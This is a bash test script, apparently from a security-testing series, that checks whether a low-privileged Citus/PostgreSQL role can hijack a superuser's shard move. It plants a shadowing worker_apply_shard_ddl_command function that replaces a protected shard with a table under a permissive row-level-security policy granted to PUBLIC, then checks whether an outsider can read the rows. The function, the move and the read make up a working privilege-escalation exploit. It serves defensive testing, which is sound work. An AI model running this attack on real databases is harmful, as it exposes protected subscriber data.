#!/usr/bin/env bash
# 109 — 108 carried through to rows: mig's worker_apply_shard_ddl_command in
# schema listguard_owner, running as listguard_owner inside a superuser's
# citus_move_shard_placement() (a routine rebalance), does 56's replacement
# of list 10's shard on that worker: rename it away, create a table under
# its name, a permissive listguard_base policy USING (true), GRANT to PUBLIC.
# No proof leaks, no fake server. Then an application adds a subscriber of
# list 10 and the outsider (no grant) reads list 10 through the coordinator.
# Secure outcome: mig's function never runs as listguard_owner, or its DDL
#   is refused: the outsider reads 0 rows.
set -u
cd "$(dirname "$0")"
. ./citus_env.sh
citus_env_up
read -r shard node < <(shard_of 10)
other=worker2; [ "$node" = worker2 ] && other=worker1
cleanup() {
    at coordinator -c "DROP SCHEMA IF EXISTS listguard_owner CASCADE" >/dev/null 2>&1
    for n in worker1 worker2; do
        at $n -c "SET citus.enable_ddl_propagation = off" -c "DROP SCHEMA IF EXISTS listguard_owner CASCADE" >/dev/null 2>&1
    done
}
cleanup
at coordinator -c "DO \$\$ BEGIN CREATE ROLE mig LOGIN; EXCEPTION WHEN duplicate_object THEN NULL; END \$\$" \
    -c "GRANT CREATE ON DATABASE esp TO mig" >/dev/null 2>&1
at coordinator -U mig -v ON_ERROR_STOP=1 >/dev/null <<SQL
CREATE SCHEMA listguard_owner;
GRANT USAGE ON SCHEMA listguard_owner TO PUBLIC;
CREATE FUNCTION listguard_owner.worker_apply_shard_ddl_command(shardid int, cmd text) RETURNS void LANGUAGE plpgsql AS \$f\$
BEGIN
  IF current_user = 'listguard_owner' AND to_regclass('public.${shard}_x') IS NULL AND to_regclass('public.$shard') IS NOT NULL THEN
    BEGIN
      EXECUTE 'ALTER TABLE public.$shard RENAME TO ${shard}_x';
      EXECUTE 'CREATE TABLE public.$shard (LIKE public.${shard}_x INCLUDING DEFAULTS INCLUDING IDENTITY)';
      EXECUTE 'ALTER TABLE public.$shard ADD PRIMARY KEY (list_id, id)';
      EXECUTE 'CREATE POLICY listguard_base ON public.$shard USING (true) WITH CHECK (true)';
      EXECUTE 'GRANT SELECT, INSERT, UPDATE, DELETE ON public.$shard TO PUBLIC';
    EXCEPTION WHEN others THEN RAISE LOG 'mig: %', SQLERRM;
    END;
  END IF;
  PERFORM pg_catalog.worker_apply_shard_ddl_command(shardid::bigint, cmd);
END \$f\$;
GRANT EXECUTE ON FUNCTION listguard_owner.worker_apply_shard_ddl_command(int, text) TO PUBLIC;
SQL
before=$(at coordinator -U outsider -c "SELECT count(*) FROM subs WHERE list_id = 10")
src=$(at coordinator -c "SELECT nodeid FROM pg_dist_node WHERE nodeport = $(node_port $other)")
dst=$(at coordinator -c "SELECT nodeid FROM pg_dist_node WHERE nodeport = $(node_port $node)")
sid=$(at coordinator -c "SELECT p.shardid FROM pg_dist_placement p JOIN pg_dist_shard s USING (shardid) WHERE s.logicalrelid = 'subs'::regclass AND p.groupid = (SELECT groupid FROM pg_dist_node WHERE nodeid = $src) LIMIT 1")
mv=$(at coordinator -c "SELECT citus_move_shard_placement($sid, $src, $dst, 'block_writes')" 2>&1 | grep ERROR | head -1)
echo "superuser moves subs shard $sid $other -> $node: ${mv:-ok}"
ins=$(at coordinator -U app -c "INSERT INTO subs (account_id, list_id, email) VALUES (2, 10, 'fresh.signup109@example.com')" 2>&1)
after=$(at coordinator -U outsider -c "SELECT count(*) FROM subs WHERE list_id = 10" 2>&1)
rows=$(at coordinator -U outsider -c "SELECT account_id || ' ' || email FROM subs WHERE list_id = 10" 2>&1 | tr '\n' ' ')
state=$(at "$node" -c "SET citus.override_table_visibility = off" -c "SELECT relname || ' rls=' || relrowsecurity || ' force=' || relforcerowsecurity FROM pg_class WHERE relname LIKE '${shard}%' AND relkind = 'r' ORDER BY 1" 2>&1 | tr '\n' ' ')
echo "app insert: ${ins:-ok}; outsider reads list 10: $before -> $after rows ($rows); on $node: $state"
# Restore: shard back in place, moved shard back.
at "$node" -c "SET citus.enable_manual_changes_to_shards = on" -c "SET citus.override_table_visibility = off" \
    -c "DO \$\$ BEGIN IF to_regclass('public.${shard}_x') IS NOT NULL THEN DROP TABLE public.$shard; ALTER TABLE public.${shard}_x RENAME TO $shard; END IF; END \$\$" >/dev/null 2>&1
cleanup
at coordinator -c "SELECT citus_move_shard_placement($sid, $dst, $src, 'block_writes')" >/dev/null 2>&1
if [ "${after:-0}" -gt "${before:-0}" ] 2>/dev/null; then
    echo "RESULT: FINDING (H): a role with CREATE on the database replaced a protected shard during a superuser's shard move: the outsider reads $after rows of list 10"
else
    echo "RESULT: held"
fi
